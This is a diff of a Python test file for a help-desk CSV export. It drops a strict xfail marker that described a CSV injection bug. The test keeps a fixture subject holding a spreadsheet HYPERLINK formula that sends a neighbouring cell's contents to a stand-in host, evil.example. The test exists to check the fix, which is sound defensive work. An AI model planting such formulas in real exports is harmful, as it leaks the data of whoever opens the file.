@@ -247,11 +247,6 @@ def test_a_csv_with_a_utf8_byte_order_mark_imports(tmp_path: Path) -> None:
         assert desk.get(1).subject == "Kettle leaks"
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="CSV export writes customer text starting with = + - @ as is: a subject "
-    "becomes a live formula when the operator opens the export in Excel (CSV injection)",
-)
 def test_a_csv_export_does_not_write_formulas(tmp_path: Path) -> None:
     db = tmp_path / "desk.db"
     _desk_with(db, '=HYPERLINK("https://evil.example/?leak="&A2,"click")')
